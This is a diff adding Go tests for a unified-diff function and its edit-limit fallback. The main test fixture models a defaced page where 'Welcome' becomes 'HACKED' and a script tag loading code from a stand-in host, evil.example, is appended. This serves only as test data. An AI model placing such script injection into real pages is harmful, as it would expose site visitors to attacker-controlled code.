@@ -0,0 +1,53 @@
+package api
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestUnifiedDiff(t *testing.T) {
+	from := "status 200\n<h1>\nWelcome\n</h1>\n<p>\nfree shipping\n</p>\n<ul>\n<li>\nLaptops\n</li>\n<li>\nMonitors\n</li>\n</ul>\n"
+	to := "status 200\n<h1>\nHACKED\n</h1>\n<p>\nfree shipping\n</p>\n<ul>\n<li>\nLaptops\n</li>\n<li>\nMonitors\n</li>\n</ul>\n<script src=\"https://evil.example/x.js\">\n"
+
+	want := `--- a
++++ b
+@@ -1,6 +1,6 @@
+ status 200
+ <h1>
+-Welcome
++HACKED
+ </h1>
+ <p>
+ free shipping
+@@ -13,3 +13,4 @@
+ Monitors
+ </li>
+ </ul>
++<script src="https://evil.example/x.js">
+`
+	if got := unifiedDiff("a", "b", from, to); got != want {
+		t.Errorf("Unexpected diff:\n%s\nwant:\n%s", got, want)
+	}
+
+	if got := unifiedDiff("a", "b", from, from); got != "" {
+		t.Errorf("Expected no diff for equal contents, got:\n%s", got)
+	}
+
+	if got := unifiedDiff("a", "b", "", "one\n"); got != "--- a\n+++ b\n@@ -0,0 +1 @@\n+one\n" {
+		t.Errorf("Unexpected diff from empty content:\n%s", got)
+	}
+}
+
+func TestDiffLines_Replaced(t *testing.T) {
+	var a, b []string
+	for i := range maxDiffEdits {
+		a = append(a, "old "+strings.Repeat("x", i%7))
+		b = append(b, "new "+strings.Repeat("y", i%5))
+	}
+
+	// Too many edits to search: everything is replaced
+	ops := diffLines(a, b)
+	if len(ops) != len(a)+len(b) || ops[0].kind != '-' || ops[len(ops)-1].kind != '+' {
+		t.Errorf("Expected a full replacement, got %d ops", len(ops))
+	}
+}